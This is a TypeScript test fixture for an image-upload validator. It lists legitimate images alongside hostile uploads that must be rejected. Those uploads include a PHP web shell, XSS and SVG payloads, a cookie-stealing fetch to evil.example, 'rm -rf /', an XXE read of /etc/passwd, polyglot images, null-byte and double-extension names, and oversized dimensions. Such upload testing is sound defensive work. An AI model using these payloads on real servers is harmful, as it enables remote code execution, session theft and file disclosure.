import { readFileSync } from "node:fs";
import { crc32 } from "node:zlib";

/** A file as somebody with bad intentions sends it. */
export interface SentFile {
  readonly what: string;
  readonly name: string;
  readonly type: string;
  readonly bytes: Buffer;
}

const fixture = (name: string): Buffer =>
  readFileSync(new URL(`../../packages/api/test/fixtures/${name}`, import.meta.url));

const png = fixture("dot.png");
const jpeg = fixture("dot.jpg");
const webp = fixture("dot.webp");

/** Pictures as honest people send them: these must be taken. */
export const honestFiles: readonly SentFile[] = [
  { what: "a PNG", name: "me.png", type: "image/png", bytes: png },
  { what: "a JPEG", name: "Me.JPG", type: "image/jpeg", bytes: jpeg },
  { what: "a WebP", name: "我的头像.webp", type: "image/webp", bytes: webp },
];

const scripts: Readonly<Record<string, string>> = {
  php: "<?php system($_GET[0]); ?>",
  html: "<!doctype html><script>alert(1)</script>",
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  js: "fetch('//evil.example/'+document.cookie)",
  sh: "#!/bin/sh\nrm -rf /",
  exe: "MZ\u0090\0\u0003",
  pdf: "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
  zip: "PK\u0003\u0004\u0014\0",
  xml: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
};

/** A PNG's header that says it has other dimensions, with the right sum. */
const withSize = (width: number, height: number): Buffer => {
  const copy = Buffer.from(png);
  copy.writeUInt32BE(width, 16);
  copy.writeUInt32BE(height, 20);
  copy.writeUInt32BE(crc32(Buffer.from(copy.subarray(12, 29))), 29);
  return copy;
};

const joined = (...parts: (Buffer | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string, "latin1")));

const asPicture = Object.entries(scripts).flatMap(([kind, text]): SentFile[] => {
  const bytes = Buffer.from(text, "latin1");
  return [
    { what: `${kind} under a picture's name`, name: "a.png", type: "image/png", bytes },
    {
      what: `${kind} behind a picture's first bytes`,
      name: "a.jpg",
      type: "image/jpeg",
      bytes: joined(jpeg.subarray(0, 20), bytes),
    },
    { what: `${kind} behind a whole picture`, name: "a.png", type: "image/png", bytes: joined(png, bytes) },
    { what: `a picture under the name of ${kind}`, name: `a.${kind}`, type: "image/png", bytes: png },
  ];
});

/** Files that must not be taken. */
export const hostileFiles: readonly SentFile[] = [
  ...asPicture,
  { what: "a GIF", name: "a.gif", type: "image/gif", bytes: Buffer.from("GIF89a\u0001\0\u0001\0\0\0\0;", "latin1") },
  { what: "a GIF called PNG", name: "a.png", type: "image/png", bytes: Buffer.from("GIF89a=1;alert(1)", "latin1") },
  { what: "a PNG called JPEG", name: "a.jpg", type: "image/jpeg", bytes: png },
  { what: "a JPEG declared as markup", name: "a.jpg", type: "text/html", bytes: jpeg },
  { what: "a second extension", name: "a.png.php", type: "image/png", bytes: png },
  { what: "a zero byte in the name", name: "a.php\0.png", type: "image/png", bytes: png },
  { what: "no name", name: "", type: "image/png", bytes: png },
  { what: "only an extension", name: ".png", type: "image/png", bytes: png },
  { what: "a server's settings", name: ".htaccess", type: "image/png", bytes: Buffer.from("AddType x .png") },
  { what: "nothing", name: "a.png", type: "image/png", bytes: Buffer.alloc(0) },
  { what: "a PNG cut short", name: "a.png", type: "image/png", bytes: png.subarray(0, 60) },
  { what: "a JPEG cut short", name: "a.jpg", type: "image/jpeg", bytes: jpeg.subarray(0, -2) },
  { what: "a WebP cut short", name: "a.webp", type: "image/webp", bytes: webp.subarray(0, -2) },
  { what: "a WebP with more behind it", name: "a.webp", type: "image/webp", bytes: joined(webp, "PK\u0003\u0004") },
  {
    what: "a JPEG with an archive behind it",
    name: "a.jpg",
    type: "image/jpeg",
    bytes: joined(jpeg, "PK\u0003\u0004"),
  },
  { what: "a picture of 50,000 × 50,000", name: "a.png", type: "image/png", bytes: withSize(50_000, 50_000) },
  { what: "a picture of 2^31 × 1", name: "a.png", type: "image/png", bytes: withSize(2 ** 31, 1) },
  { what: "a picture without pixels", name: "a.png", type: "image/png", bytes: withSize(0, 8) },
  { what: "2 MiB", name: "a.png", type: "image/png", bytes: joined(png, Buffer.alloc(2 * 1024 * 1024)) },
];
